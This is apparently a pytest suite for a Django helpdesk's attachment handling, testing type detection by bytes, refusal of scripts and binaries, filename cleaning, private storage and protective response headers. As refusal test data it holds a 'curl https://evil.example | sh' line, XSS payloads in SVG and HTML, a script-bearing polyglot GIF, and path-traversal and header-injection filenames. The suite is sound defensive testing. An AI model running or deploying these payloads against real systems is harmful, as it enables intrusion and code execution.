"""Attachments are accepted by what their bytes are, stored under random names outside the web root, and served
so that no browser runs them (tickets/uploads.py). No database needed."""

import base64
import hashlib
import re
import stat
import struct
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from tests import helpers
from tickets.uploads import (
    UploadRefused,
    attachment_response,
    check_count,
    check_private_media,
    clean_filename,
    inspect_upload,
    private_storage,
    save_upload,
    stored_name,
)


@pytest.fixture(autouse=True)
def _messages_in_english():
    """Refusals are checked in English here; tests/portal/test_catalogs.py checks that French is complete."""
    with translation.override("en"):
        yield


FIXTURES = helpers.FIXTURES / "phishing"


def _png() -> bytes:
    """A real 1×1 red PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


PNG = _png()
# The classic 1×1 transparent GIF.
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
# 16×16 JPEG and WebP images from CPython's own test data (Lib/test/test_email/data/python.jpg, python.webp).
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEAAQABAAD/2wBDAAMCAgICAgMCAgIDAwMDBAYEBAQEBAgGBgUGCQgKCgkICQkKDA8MCgsOCwkJDRENDg8Q"
    "EBEQCgwSExIQEw8QEBD/2wBDAQMDAwQDBAgEBAgQCwkLEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQ"
    "EBAQEBAQEBD/wAARCAAQABADASIAAhEBAxEB/8QAFgABAQEAAAAAAAAAAAAAAAAABwQF/8QAJBAAAQQBBAICAwAAAAAAAAAAAQID"
    "BAYFBwgSExEiABQJMTL/xAAVAQEBAAAAAAAAAAAAAAAAAAAABv/EACMRAAECBQMFAAAAAAAAAAAAAAECEQMEBQYhABIxFRZhgeH/"
    "2gAMAwEAAhEDEQA/ABSm0mobc8HmExLUlRzzEWPkJWW+ulrsaUVAseUgslSlH9LKuPryIKuWPZdskzXmm3fX5m2nF4GlVxx/HOpx"
    "4ks51+MiU/Iaad7UcUo4tILoS4kqcWkezS0hO/HvuRp0rO6hWnWO1UisZVuFi4GFeyEpmGepa5S5SWVPuciFKRFLgSrwetnyPIB+"
    "Vb4N9mKhQMzo5po9XLdDs9d6ZVix2VEhiL9kuNPxw2gEKcDQ/rs8AuA8VAe0vdl7VOYn+27flGAUgmITjbhSmCg3BYlyeWDkMolv"
    "w4KOp1KM6iCNvngZHwetf//Z"
)
WEBP = base64.b64decode(
    "UklGRqgBAABXRUJQVlA4WAoAAAAQAAAADwAADwAAQUxQSMMAAAABJ6KokSTleucYX+ffKpmImP90cY3gJjDi4Yt3MsjBEVyDKzDo"
    "sHgVjnhRNcEIDAJPkqBqsFUZHNa2bUYvTsZ2PLbtd/uvKa4hov9J0f2PkPe6REkkGzolkTTzFG0Ox9PlFiD0CxS+kOGDtxoynjaC"
    "fx0pfk52CPuInrOR75lzRugygtv4zEiy90UwfSD9NheMITJWLaXWayO8XeOlWRXVnIGk2W6WdYoYMQ+KqixQNPowgt+6a1BSKbUt"
    "z+lUFAoBAAAAVlA4IL4AAACQAgCdASoQABAAAwA0JbACdDBPCIUMfAMdCCz96AD+/XSg/QKbH4r3Q3ycN/bSDK/T/zVo4u6nvclv"
    "G/SqxWOuup+XhN9BojvaW+Tv+MvxvX/hr/o/5Qns9LtmX/+qKdl/yWznhuasl7nkxvSTI4xf3Y85VSB/lU/8Ofj/b9JrA+ifvIOY"
    "Zm2x1RP/dhfmsf5diuSfR7+z+r/+HR3zEo/+XM/B+vkYw73Pzx+ROaAB/ZoBSzEs3rzZe6qsAAAA"
)


def _pdf() -> bytes:
    """A real one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


PDF = _pdf()
# A GIF that is also a page: a comment extension (after the header, screen descriptor and 2-colour table) carries
# markup. Still a valid GIF. Accepted as an image (see the test below).
_MARKUP = b"<html><script>alert(document.domain)</script>"
POLYGLOT_GIF = GIF[:19] + b"!\xfe" + bytes([len(_MARKUP)]) + _MARKUP + b"\x00" + GIF[19:]


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(file, **kwargs) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(file, **kwargs)
    return caught.value


# --- What is accepted ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "content_type", "extension", "kind"),
    [
        (PNG, "image/png", "png", "image"),
        (JPEG, "image/jpeg", "jpg", "image"),
        (GIF, "image/gif", "gif", "image"),
        (WEBP, "image/webp", "webp", "image"),
        (PDF, "application/pdf", "pdf", "pdf"),
    ],
)
def test_real_images_and_pdf_are_recognised_by_their_bytes(content, content_type, extension, kind):
    checked = inspect_upload(upload("capture", content, content_type="text/html"))

    assert (checked.content_type, checked.extension, checked.kind) == (content_type, extension, kind)
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.original_name == "capture"


def test_the_name_and_the_browsers_type_play_no_part():
    checked = inspect_upload(upload("rapport.txt", PNG, content_type="text/plain"))

    assert checked.content_type == "image/png"
    assert checked.extension == "png"
    assert checked.original_name == "rapport.txt"  # kept for display only


def test_utf8_text_is_plain_text():
    content = "Erreur « token badvalue » à 08 h 12 sur https://webmail.example.fr\r\n".encode()

    checked = inspect_upload(upload("erreur.txt", content))

    assert checked.content_type == "text/plain; charset=utf-8"
    assert (checked.kind, checked.extension) == ("text", "txt")


def test_windows_1252_text_is_accepted_with_its_charset():
    checked = inspect_upload(upload("notes.txt", "Café crème — 10 € ; «cédille»".encode("cp1252")))

    assert checked.content_type == "text/plain; charset=windows-1252"


def test_an_eml_file_is_an_email_whatever_its_name():
    checked = inspect_upload(upload("message.txt", (FIXTURES / "boite-pleine-jeanne.eml").read_bytes()))

    assert (checked.content_type, checked.kind, checked.extension) == ("message/rfc822", "email", "eml")


def test_an_eml_file_exported_as_mbox_with_a_separator_line_is_an_email():
    content = b"From - Tue Nov 03 08:12:47 2026\n" + (FIXTURES / "legitime.eml").read_bytes()

    assert inspect_upload(upload("m.eml", content)).kind == "email"


def test_text_with_a_single_from_line_is_only_text():
    checked = inspect_upload(upload("note.eml", b"From: moi\nJe n'arrive plus a me connecter.\n"))

    assert checked.kind == "text"


def test_the_polyglot_gif_is_accepted_as_an_image_and_only_ever_served_as_one():
    """Decision: accepted. Its bytes are served as image/gif with nosniff, a sandboxing CSP and a ".gif" download
    name, so neither a browser nor a desktop treats them as a page; scanning image data for markup is easy to
    evade and refuses legitimate pictures whose XMP metadata is XML."""
    checked = inspect_upload(upload("chat.html", POLYGLOT_GIF))
    assert checked.content_type == "image/gif"

    response = attachment_response(
        file=upload("x", POLYGLOT_GIF), checked_name=checked.original_name, content_type=checked.content_type
    )

    assert response["Content-Type"] == "image/gif"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert response["Content-Disposition"].startswith("attachment;")
    assert "chat.html.gif" in response["Content-Disposition"]


# --- What is refused -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'),
        ("logo.png", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>'),
        ("page.txt", b"<!DOCTYPE html><html><body><form action='https://evil.example'></form></body></html>"),
        ("page.txt", b"\xef\xbb\xbf\n   <HTML><script>alert(1)</script>"),
        ("page.txt", b"<script>fetch('/api/')</script>"),
        ("notes.txt", b"<!-- commentaire -->\nbonjour"),
        ("notes.txt", b"<p>bonjour</p>"),
        ("install.txt", b"#!/bin/sh\ncurl https://evil.example | sh\n"),
        ("facture.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64),
        ("facture.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32),
        ("rapport.docx", b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00word/document.xml"),
        ("archive.zip", b"PK\x03\x04" + bytes(range(256))),
        ("notes.txt", b"bonjour\x00monde"),
        ("notes.txt", b"couleur \x1b[31mrouge\x1b[0m"),
        ("doc.txt", "texte".encode("utf-16")),
    ],
)
def test_markup_scripts_programs_and_binaries_are_refused_whatever_their_name(name, content):
    refused = refusal(upload(name, content, content_type="image/png"))

    assert refused.code == "type"
    assert f"“{name}”" in refused.message
    assert "PNG, JPEG, GIF, WebP" in refused.message


def test_an_empty_file_is_refused():
    refused = refusal(upload("capture.png", b""))

    assert refused.code == "empty"
    assert "capture.png" in refused.message


def test_a_file_over_the_limit_is_refused(settings):
    settings.GUICHET_ATTACHMENT_MAX_BYTES = 1000

    assert inspect_upload(upload("ok.txt", b"a" * 1000)).size == 1000
    refused = refusal(upload("gros.txt", b"a" * 1001))

    assert refused.code == "too_large"
    assert "gros.txt" in refused.message
    assert refusal(upload("ok.txt", b"a" * 1000), max_bytes=999).code == "too_large"


def test_the_size_check_reads_no_more_than_the_limit_plus_one_byte():
    class CountingUpload(SimpleUploadedFile):
        """A browser-announced size that lies, and a counter of what was read."""

        consumed = 0

        def read(self, size=-1):
            data = super().read(size)
            self.consumed += len(data)
            return data

    file = CountingUpload("gros.png", PNG + b"\x00" * 5_000_000)
    file.size = 10

    assert refusal(file, max_bytes=4096).code == "too_large"
    assert file.consumed <= 4097


def test_the_file_is_rewound_for_saving():
    file = upload("capture.png", PNG)
    inspect_upload(file)

    assert file.read() == PNG


# --- Names -----------------------------------------------------------------------------------------------------------


def test_a_path_traversal_name_keeps_only_its_last_component():
    checked = inspect_upload(upload("../../etc/passwd.png", PNG))

    assert checked.original_name == "passwd.png"
    assert "passwd" not in stored_name(checked)


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("C:\\Users\\jeanne\\Bureau\\capture d'écran.png", "capture d'écran.png"),
        ("relevé\u202egpj.exe", "relevégpj.exe"),  # the right-to-left override that shows "exe.jpg" goes
        ("note\x00\r\n.txt", "note.txt"),
        ("  .htaccess  ", "htaccess"),
        ("Réponse   du   rectorat.pdf", "Réponse du rectorat.pdf"),
    ],
)
def test_names_are_cleaned_for_display(given, expected):
    assert clean_filename(given) == expected


def test_long_names_are_capped_and_keep_their_extension():
    name = clean_filename("é" * 400 + ".pdf")

    assert len(name) == 150
    assert name.endswith("é.pdf")


@pytest.mark.parametrize("name", ["", "..", "../../", "\x00\x01", "/", " . "])
def test_nothing_usable_remains_of_some_names(name):
    assert clean_filename(name) == ""


def test_a_file_without_a_usable_name_is_refused():
    assert refusal(upload("\x00\x01", PNG)).code == "name"


# --- Counting --------------------------------------------------------------------------------------------------------


def test_count_limits_per_submission_and_per_ticket(settings):
    settings.GUICHET_ATTACHMENT_MAX_COUNT = 5
    settings.GUICHET_ATTACHMENT_MAX_PER_TICKET = 20

    check_count(adding=5)
    check_count(adding=2, already=18)
    with pytest.raises(UploadRefused) as too_many:
        check_count(adding=6)
    with pytest.raises(UploadRefused) as ticket_full:
        check_count(adding=3, already=18)

    assert too_many.value.code == ticket_full.value.code == "count"
    assert "5" in too_many.value.message and "6" in too_many.value.message
    assert "2 more" in ticket_full.value.message


# --- Storage ---------------------------------------------------------------------------------------------------------


def test_stored_names_are_random_and_carry_only_the_detected_extension():
    checked = inspect_upload(upload("photo de mon écran.html", PNG))

    first, second = stored_name(checked), stored_name(checked)

    assert re.fullmatch(r"\d{4}/\d{2}/[0-9a-f]{32}\.png", first)
    assert first != second


def test_files_are_saved_privately(settings, tmp_path):
    settings.GUICHET_PRIVATE_MEDIA_ROOT = tmp_path / "private-media"
    file = upload("capture.png", PNG)
    checked = inspect_upload(file)

    name = save_upload(file, checked)

    path = Path(private_storage.path(name))
    assert path.is_relative_to(tmp_path / "private-media")
    assert path.read_bytes() == PNG
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "private-media").stat().st_mode) == 0o700
    with pytest.raises(ValueError):
        private_storage.url(name)


def test_the_private_root_may_not_overlap_a_served_directory(settings, tmp_path):
    settings.STATICFILES_DIRS = [tmp_path / "static"]
    settings.GUICHET_PRIVATE_MEDIA_ROOT = tmp_path / "static" / "uploads"

    with pytest.raises(ImproperlyConfigured):
        private_storage.path("x.png")
    assert [error.id for error in check_private_media()] == ["tickets.E001"]

    settings.GUICHET_PRIVATE_MEDIA_ROOT = tmp_path  # contains the static directory
    assert check_private_media()

    settings.GUICHET_PRIVATE_MEDIA_ROOT = tmp_path / "private-media"
    assert check_private_media() == []


# --- Serving ---------------------------------------------------------------------------------------------------------


def _served(content: bytes, **kwargs):
    response = attachment_response(file=upload("stored", content), **kwargs)
    return response, b"".join(response.streaming_content)


def test_the_response_streams_the_file_with_protective_headers():
    response, body = _served(PDF, checked_name="relevé de compte.pdf", content_type="application/pdf")

    assert body == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Length"] == str(len(PDF))
    assert response["Content-Disposition"] == (
        "attachment; filename=\"releve de compte.pdf\"; filename*=UTF-8''relev%C3%A9%20de%20compte.pdf"
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Cross-Origin-Resource-Policy"] == "same-origin"


@pytest.mark.parametrize(
    ("content_type", "disposition"),
    [
        ("image/png", "inline"),
        ("application/pdf", "inline"),
        ("text/plain; charset=utf-8", "attachment"),
        ("message/rfc822", "attachment"),
    ],
)
def test_inline_only_for_images_and_pdf(content_type, disposition):
    response, _body = _served(b"x", checked_name="f", content_type=content_type, inline=True)

    assert response["Content-Disposition"].split(";")[0] == disposition


@pytest.mark.parametrize("content_type", ["text/html", "text/html; charset=utf-8", "image/svg+xml", "application/xml"])
def test_html_and_other_unknown_types_are_never_served_as_such(content_type):
    response, _body = _served(
        b"<html><script>alert(1)</script>", checked_name="page.html", content_type=content_type, inline=True
    )

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "page.html.bin" in response["Content-Disposition"]


def test_the_download_name_ends_with_the_detected_types_extension():
    response, _body = _served(PNG, checked_name="page.html", content_type="image/png")
    assert "filename*=UTF-8''page.html.png" in response["Content-Disposition"]

    response, _body = _served(JPEG, checked_name="photo.JPEG", content_type="image/jpeg")
    assert "filename*=UTF-8''photo.JPEG" in response["Content-Disposition"]


def test_a_hostile_display_name_cannot_break_the_header():
    response, _body = _served(PNG, checked_name='a"; filename=evil.html\r\nX-Evil: 1', content_type="image/png")

    assert re.fullmatch(
        r"attachment; filename=\"[A-Za-z0-9._ -]+\.png\"; filename\*=UTF-8''[A-Za-z0-9%._~-]+\.png",
        response["Content-Disposition"],
    )
    assert not response.has_header("X-Evil")
